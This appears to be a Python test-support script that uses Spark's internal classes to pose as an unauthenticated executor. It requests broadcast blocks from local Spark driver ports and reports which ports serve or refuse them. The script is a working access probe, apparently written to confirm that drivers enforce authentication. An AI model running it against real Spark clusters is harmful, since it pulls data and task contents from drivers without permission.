"""Attacks a Spark driver without its secret: ``python -m tests.support.spark_thief <port>...``.

The ports are those at which the driver listens on this machine. The program has Spark's classes and no authentication,
and requests blocks of broadcasts from every port as an executor does
(org.apache.spark.network.BlockTransferService.fetchBlockSync): the tasks of a driver are such blocks. It prints "got",
port, block and bytes for each block that it received, and "refused" and the port for each port that does not serve it.
"""

from __future__ import annotations

import sys
from typing import Any

from pyspark import SparkContext

_BLOCKS = 6
_SETTINGS = {
    "spark.app.id": "thief",
    "spark.authenticate": "false",
    "spark.shuffle.io.maxRetries": "0",
    "spark.network.timeout": "5s",
}
_HOST = "127.0.0.1"


def _service(jvm: Any) -> Any:
    spark = jvm.org.apache.spark
    conf = spark.SparkConf(False)
    for key, value in _SETTINGS.items():
        conf.set(key, value)
    package = getattr(getattr(spark.internal.config, "package$"), "MODULE$")
    nothing = getattr(getattr(jvm.scala, "None$"), "MODULE$")
    security = spark.SecurityManager(conf, nothing, package.AUTH_SECRET_FILE())
    serializers = spark.serializer.SerializerManager(spark.serializer.JavaSerializer(conf), conf)
    made = spark.network.netty.NettyBlockTransferService(conf, security, serializers, _HOST, _HOST, 0, 1, None)
    made.init(None)
    return made


def main(ports: list[int]) -> None:
    SparkContext._ensure_initialized()
    jvm: Any = SparkContext._jvm
    service = _service(jvm)
    for port in ports:
        for number in range(_BLOCKS):
            block = f"broadcast_{number}_piece0"
            try:
                size = int(service.fetchBlockSync(_HOST, port, "driver", block, None).size())
            except Exception as error:  # noqa: BLE001 - refused, unknown, or the listener is not Spark's
                if "BlockNotFound" in str(error):
                    continue
                print(f"refused {port}", flush=True)
                break
            print(f"got {port} {block} {size}", flush=True)


if __name__ == "__main__":
    main([int(port) for port in sys.argv[1:]])
